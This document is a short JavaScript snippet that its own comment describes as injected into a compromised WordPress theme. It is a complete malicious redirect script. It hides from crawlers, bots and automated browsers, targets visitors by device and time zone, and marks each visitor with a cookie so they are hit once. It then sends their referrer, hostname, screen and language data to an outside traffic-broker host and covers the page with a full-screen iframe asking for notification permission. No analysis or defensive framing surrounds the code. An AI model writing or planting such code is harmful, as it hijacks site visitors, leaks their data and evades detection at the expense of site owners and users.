// Injected into a compromised WordPress theme: visitors who pass the checks (not a crawler
// or headless browser, a mobile or Windows user agent, a time zone in the targeted regions,
// no cookie from an earlier hit) get a borderless full-page iframe that opens the traffic
// broker's first hop, with the visitor's data in its query string.
(function () {
  var ua = navigator.userAgent || "";
  if (/bot|crawl|spider|slurp|lighthouse|headless|phantom|python|curl/i.test(ua)) return;
  if (navigator.webdriver) return;
  if (!/Android|iPhone|iPad|Windows NT/.test(ua)) return;
  var tz = "";
  try { tz = Intl.DateTimeFormat().resolvedOptions().timeZone || ""; } catch (e) {}
  if (!/^(America|Europe|Australia)\//.test(tz)) return;
  if (document.cookie.indexOf("_vtc=") !== -1) return;
  var d = new Date();
  d.setTime(d.getTime() + 24 * 3600 * 1000);
  document.cookie = "_vtc=1; expires=" + d.toUTCString() + "; path=/";
  var q = "?tz=" + encodeURIComponent(tz) +
    "&ref=" + encodeURIComponent(document.referrer) +
    "&h=" + encodeURIComponent(location.hostname) +
    "&sw=" + screen.width + "&lang=" + (navigator.language || "");
  setTimeout(function () {
    var f = document.createElement("iframe");
    f.src = "https://go.trk-relay.invalid/r/7c1f3" + q;
    f.setAttribute("frameborder", "0");
    f.setAttribute("allow", "notifications; autoplay");
    f.style.cssText = "position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;margin:0;z-index:2147483647;background:#fff";
    document.documentElement.style.overflow = "hidden";
    (document.body || document.documentElement).appendChild(f);
  }, 2500);
})();
